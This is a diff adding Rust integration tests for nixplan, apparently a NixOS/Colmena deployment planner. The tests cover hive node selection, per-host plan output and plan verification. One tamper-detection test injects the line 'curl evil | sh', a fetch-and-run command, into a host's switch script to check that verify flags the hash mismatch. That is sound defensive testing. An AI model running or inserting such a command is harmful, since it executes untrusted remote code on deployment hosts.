@@ -231,3 +231,163 @@ fn bad_deploy_input_is_an_error_at_the_line() {
     );
     assert!(e.contains("--bootstrap is for installs"), "{e}");
 }
+
+const HIVE: &str = "tests/fixtures/colmena-hive";
+
+fn hive_names(extra: &[&str]) -> Vec<String> {
+    let mut args = vec!["--goal", "push"];
+    args.extend_from_slice(extra);
+    let p = plan_json(HIVE, &args);
+    assert!(p["actions"].as_array().unwrap().is_empty());
+    p["hosts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| h["target"]["name"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn on_selects_nodes_by_name_glob_and_tag() {
+    let sys = |n: &str| format!("{n}={SYSTEM}");
+    let (w1, w2, d1) = (sys("web1"), sys("web2"), sys("db1"));
+    let all = [
+        "--node-system",
+        w1.as_str(),
+        "--node-system",
+        w2.as_str(),
+        "--node-system",
+        d1.as_str(),
+    ];
+    let with = |on: &str| {
+        let mut a = vec!["--on", on];
+        a.extend_from_slice(&all);
+        hive_names(&a)
+    };
+    assert_eq!(with("@web"), ["web1", "web2"]);
+    assert_eq!(with("@us,db*"), ["db1", "web2"]);
+    assert_eq!(with("web1"), ["web1"]);
+    assert_eq!(with("@e?"), ["web1"]);
+    // A directory without --on: every node.
+    assert_eq!(hive_names(&all), ["db1", "web1", "web2"]);
+    // Each host's plan is its own: web2's port, db1's on-target build
+    // is not needed with a built system.
+    let p = plan_json(
+        HIVE,
+        &["--goal", "push", "--on", "@us", "--node-system", &w2],
+    );
+    assert_eq!(p["hosts"][0]["target"]["port"], 2222);
+    assert_eq!(p["target"]["goal"], "push");
+}
+
+#[test]
+fn a_hive_plan_reads_per_host_and_verify_checks_every_host() {
+    let w1 = format!("web1={SYSTEM}");
+    let w2 = format!("web2={SYSTEM}");
+    let base = [
+        "plan",
+        HIVE,
+        "--offline",
+        "--goal",
+        "switch",
+        "--on",
+        "@web",
+        "--node-system",
+        &w1,
+        "--node-system",
+        &w2,
+    ];
+    let text = |format: &str| {
+        let mut a = base.to_vec();
+        a.extend_from_slice(&["--format", format]);
+        let (code, out, err) = common::nixplan_text(&a);
+        assert_eq!(code, 0, "{err}");
+        out
+    };
+    let t = text("text");
+    assert!(
+        t.starts_with("Deploy 2 hosts of colmena-hive (goal: switch)"),
+        "{t}"
+    );
+    assert!(
+        t.contains("Deploy web1 to deploy@web1.example.net (goal: switch)"),
+        "{t}"
+    );
+    assert!(
+        t.contains("Deploy web2 to deploy@203.0.113.22 (goal: switch)"),
+        "{t}"
+    );
+    let m = text("markdown");
+    assert!(m.contains("deploy `web2`"), "{m}");
+    // Graphs name each action by its host.
+    let d = text("dot");
+    assert!(
+        d.contains("web1/deploy/switch") && d.contains("web2/deploy/switch"),
+        "{d}"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("hive.json");
+    let mut a = base.to_vec();
+    a.extend_from_slice(&["--out", file.to_str().unwrap()]);
+    let (code, _, err) = common::nixplan_text(&a);
+    assert_eq!(code, 0, "{err}");
+    let (code, out, _) = common::nixplan_text(&["verify", file.to_str().unwrap()]);
+    assert_eq!(code, 0, "{out}");
+    // One host's switch edited, the hive's hash recomputed: that host's
+    // own hash no longer matches.
+    let mut p: nixplan_plan::Plan =
+        nixplan_plan::Plan::from_json(&std::fs::read_to_string(&file).unwrap()).unwrap();
+    let sw = p.hosts[1]
+        .actions
+        .iter_mut()
+        .find(|a| a.id == "deploy/switch")
+        .unwrap();
+    sw.script = Some("curl evil | sh".into());
+    let p = p.seal();
+    std::fs::write(&file, p.to_json()).unwrap();
+    let (code, out, _) = common::nixplan_text(&["verify", file.to_str().unwrap()]);
+    assert_eq!(code, 1, "{out}");
+    assert!(out.starts_with("web2: the hash is"), "{out}");
+    // The same plan against itself: no changes, host by host.
+    let (code, out, err) = common::nixplan_text(&[
+        "plan",
+        HIVE,
+        "--offline",
+        "--goal",
+        "switch",
+        "--on",
+        "web1",
+        "--node-system",
+        &w1,
+        "--diff",
+        file.to_str().unwrap(),
+    ]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("== web1\nNo changes"), "{out}");
+    assert!(out.contains("== web2\nno longer deployed to"), "{out}");
+}
+
+#[test]
+fn bad_hive_selections_say_what_there_is() {
+    let err = |extra: &[&str]| {
+        let mut args = vec!["plan", HIVE, "--offline", "--goal", "push"];
+        args.extend_from_slice(extra);
+        let (code, _, err) = common::nixplan_text(&args);
+        assert!(code == 1 || code == 2, "{code}: {err}");
+        err
+    };
+    let e = err(&["--on", "@nosuchtag"]);
+    assert!(
+        e.contains("--on @nosuchtag selects none of the nodes (db1, web1, web2)"),
+        "{e}"
+    );
+    let e = err(&["--on", "@web", "--target-host", "root@192.0.2.9"]);
+    assert!(e.contains("--target-host names one host's"), "{e}");
+    let e = err(&["--on", "web1", "--node-system", "web9=/nix/store/x"]);
+    assert!(e.contains("the hive has no node web9"), "{e}");
+    let e = err(&["--on", "[web"]);
+    assert!(e.contains("is not a name, glob or @tag"), "{e}");
+    // --on needs --goal.
+    let (code, _, e) = common::nixplan_text(&["plan", HIVE, "--on", "web1"]);
+    assert_eq!(code, 2, "{e}");
+}
